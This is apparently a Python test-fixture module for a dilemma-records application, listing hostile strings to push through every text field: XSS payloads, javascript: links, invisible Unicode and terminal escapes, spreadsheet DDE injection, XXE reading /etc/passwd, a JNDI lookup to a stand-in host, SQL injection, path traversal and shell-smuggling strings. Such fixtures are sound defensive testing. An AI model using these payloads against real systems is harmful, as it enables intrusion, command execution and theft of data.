"""Texts with which someone would attack a page, an export, a terminal or a log: each goes through every field of a dilemma.

What they would do is harmless here: every address is one that does not exist (RFC 2606), and what would run says so in an
alert. kb.legible leaves out what no reader sees; everything else has to be read as it stands.
"""

import json
from collections.abc import Iterator, Sequence
from typing import Any

STRANGER = "elders.example"
"""The host that all of them point to: nothing may be asked from it."""

HTML = (
    "<b>vet</b>",
    "<script>alert('script')</script>",
    "<SCRIPT SRC=//elders.example/x.js></SCRIPT>",
    '<img src="https://elders.example/x.png" onerror="alert(1)">',
    "<svg onload=alert(2)><script>alert(3)</script></svg>",
    '<iframe src="https://elders.example/kader"></iframe>',
    '<a href="javascript:alert(4)">klik</a>',
    '<form action="https://elders.example"><input name=w><button>Verder</button></form>',
    '<style>@import url("https://elders.example/x.css");</style>',
    '<link rel="stylesheet" href="https://elders.example/y.css">',
    '<meta http-equiv="refresh" content="0;url=https://elders.example">',
    '<div style="background:url(https://elders.example/z.png)" onmouseover="alert(5)">zweef</div>',
    "</p></div></body><h1>Weg</h1>",
    "<!-- opmerking --> <![CDATA[ rauw ]]> <?xml version='1.0'?>",
    "&lt;script&gt;alert(6)&lt;/script&gt; &amp;nbsp; &#x3c;b&#x3e; &copy;",
    "<details open ontoggle=alert(7)><summary>Open</summary></details>",
    '"><script>alert(8)</script>',
    "' onfocus='alert(9)' autofocus x='",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(10)>",
    "<video><source onerror=alert(11)></video><audio src=x onerror=alert(12)>",
)
MARKDOWN = (
    "![foto](https://elders.example/foto.png)",
    "[klik](https://elders.example)",
    "[klik][1]\n\n[1]: https://elders.example/verwezen",
    "![foto][beeld]\n\n[beeld]: https://elders.example/verwezen.png",
    "<https://elders.example/auto>",
    "https://elders.example/los www.elders.example ik@elders.example mailto:ik@elders.example",
    "HTTPS://ELDERS.EXAMPLE/groot ftp://elders.example/bestand",
    "zie noot[^1]\n\n[^1]: https://elders.example/noot",
    "# Kop\n\n## Kop twee\n\nOnderstreept\n===\n\nOok\n---",
    "> citaat\n\n- punt\n\n1. een\n\n* * *\n\n+ plus",
    "`code` ```\nblok\n``` ~~~ ~~weg~~ **vet** _schuin_ __dik__",
    "| a | b |\n|---|---|\n| ![x](https://elders.example/cel.png) | y |",
    "- [ ] nog doen\n- [x] gedaan",
    "\\![x](https://elders.example/ontsnapt.png) \\\\[y](https://elders.example)",
    "    vier spaties maken code\n\n\ttab ook",
    ":red[rood] :blue-background[blauw] :rainbow[bont] :small[klein] :material/home: :streamlit:",
    ":dog: :+1: :heart_eyes: :material/delete_forever: :gray-badge[nep]",
    "$\\frac{a}{b}$ $$\\int_0^1 x\\,dx$$ \\(a\\) \\[b\\] \\begin{matrix}1\\end{matrix}",
    "$\\href{javascript:alert(13)}{klik}$ $\\includegraphics{https://elders.example/latex.png}$",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "[klik](javascript:alert(14)) [klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1)) [klik](//elders.example) [klik](/?id=1) [klik](#boven)",
)
UNSEEN = (
    "omgekeerd \u202emet eraan\u202c klaar",
    "geïsoleerd \u2066van links\u2069 \u2067van rechts\u2069 \u2068eerste\u2069 \u061c\u200e\u200f",
    "nul\u200bbreed\u200c en\u200d samen\u2060gevoegd\ufeff en af\u00adgebroken",
    "etiketten \U000e0041\U000e0042\U000e007f en kiezers \ufe0f\U000e0101",
    "opvullers \u3164\u115f\u1160\uffa0\u2800 en \u034f",
    "besturing \x01\x02\x07\x08\x1a\x7f en \x80\x9b\x9d",
    "nul\x00teken en \x00",
    "kleur \x1b[31mrood\x1b[0m titel \x1b]0;over\x07 wis \x1b[2J\x1b[H \x9b31m",
    "regel\r\nnieuwe: ERROR vervalst\r\n\r\nHTTP/1.1 200 OK",
    "scheiding \u2028 en \u2029 en \x85 en \x0b en \x0c",
    "eigen gebruik \ue000\uf8ff en nooit \ufdd0\ufffe\uffff",
    "toren Z\u0351\u036b\u0343\u036a\u0302\u0348\u0354\u0301\u0300\u0315\u031b\u0340\u0358\u0321" + "a" + "\u0301" * 200,
)
CONFUSING = (
    "gelijkend: \u0440\u0430ypal.example en \u217coterij en \uff1cscript\uff1e",
    "L" + "a" * 500 + "ng",
    "woord zonder einde " + "W" * 150 + "/" * 150,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 emoji",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea naast Nederlands",
    "𝕱𝖔𝖚𝖙𝖊 ﬁ ﷽ ½ ①",
)
OTHER_PROGRAMS = (
    '=HYPERLINK("https://elders.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1)\t-2+3",
    'HYPERLINK "https://elders.example/veld" { INCLUDEPICTURE "https://elders.example/w.png" } DDEAUTO c:\\\\x',
    "]]></w:t></w:r></w:p><w:p>los<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "(tekst) Tj ET BT /F1 12 Tf << /S /URI /URI (https://elders.example) >> endstream endobj",
    '#link("https://elders.example")[klik] #image("/etc/passwd") #eval("1") @verwijzing <label> */ /* // weg',
    "{} {0} {x.__class__} %s %n %(x)s ${jndi:ldap://elders.example/a} #{1} {{7*7}} <%= 1 %>",
    "'; DROP TABLE dilemma; -- \" OR 1=1 /*",
    'NEAR("a" "b", 5) OR title:x* AND NOT ^y {a b}:c "onaf',
    "../../../../etc/passwd ..\\..\\x C:\\x /dev/null file:///etc/passwd",
    "$(touch /tmp/x) `id` | rm -rf ; && \\ !!",
    "null None undefined NaN true -1 1e999 0x41",
    "__proto__ constructor toString",
    "[persoon 2] [PERSOON-2] [leeftijd: tiener] […] [kleine gemeente]",
)
ALL: tuple[str, ...] = (*HTML, *MARKDOWN, *UNSEEN, *CONFUSING, *OTHER_PROGRAMS)

IDS = ("../../etc/passwd", "a?b=c&d#e", "<script>alert(15)</script>", "[x](//elders.example)", "a\x1b[31m\u202eb", "x'; --")
"""What stands where an id is expected."""

LINES = (
    '{"id": "half", "title": "\\ud800 half", "situation": "", "question": "", "guidance": []}',
    '{"id": "\\udfff", "title": "t", "situation": "", "question": "", "guidance": []}',
    '{"id": "naam", "title": "t", "situation": "", "question": "", "guidance": [], "\\ud800": 1}',
    '{"id": "versie", "title": "t", "situation": "", "question": "", "guidance": [], "version": 1e999}',
    '{"id": "groot", "title": "t", "situation": "", "question": "", "guidance": [], "version": 99999999999999999999}',
    '{"id": "veel", "title": "t", "situation": "", "question": "", "guidance": [], "source": {"colleagues": 1e30}}',
    '{"id": "cijfers", "title": "t", "situation": "", "question": "", "guidance": [], "n": ' + "9" * 5000 + "}",
    '{"id": "geen getal", "title": "t", "situation": "", "question": "", "guidance": [], "n": NaN}',
    '{"id": "diep", "title": "t", "situation": "", "question": "", "guidance": [], "x": ' + "[" * 900 + "]" * 900 + "}",
    "[" * 100_000,
    '{"id": 1',
    "\x00\x1b[2J",
)
"""Lines of an import file of which each has to be refused by itself."""


def record(key: str, texts: Sequence[str], **more: Any) -> dict[str, Any]:
    """Return a record of a dilemma in which every field that takes text holds all of these texts, most of them one by one."""
    whole = "\n\n".join(texts)
    return {
        "id": key, "title": f"Wat nu? {' '.join(texts[0].split())}", "theme": texts[0], "themes": ["woonoverlast", texts[-1]],
        "situation": f"De buren klagen al maanden over geluid. {whole}", "question": f"Grijpen we in? {whole}",
        "interests": [{"role": one, "interest": one, "extra": one} for one in texts],
        "guidance": [
            {"by": one, "text": one, "conditions": [one, f"en {one}"], "result": one, "stance": ("voor", "tegen", None)[n % 3],
             "tried": (True, False, None)[n % 3], "noot": one, one: "naam"}
            for n, one in enumerate(texts)
        ],
        "chosen": whole, "outcome": whole,
        "facets": {"partners": list(texts), "instrument": [texts[0]], "fase": [texts[-1]], texts[0]: [texts[0]]},
        "source": {"kind": texts[0], "period": texts[0], "colleagues": 7, "title": texts[0], "url": f"https://x {texts[0]}",
                   "risk": {"level": texts[0], "reasons": list(texts)}},
        "labels": {one: [one] for one in texts}, "status": "gepubliceerd",
    } | more  # fmt: skip


def strings(value: Any) -> Iterator[str]:
    """Yield every text inside a value as JSON has them, names of fields too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from (text for pair in value.items() for one in pair for text in strings(one))
    elif isinstance(value, list):
        yield from (text for one in value for text in strings(one))


def lines(records: Sequence[dict[str, Any]]) -> str:
    """Return records as the lines of an import file."""
    return "".join(json.dumps(one) + "\n" for one in records)
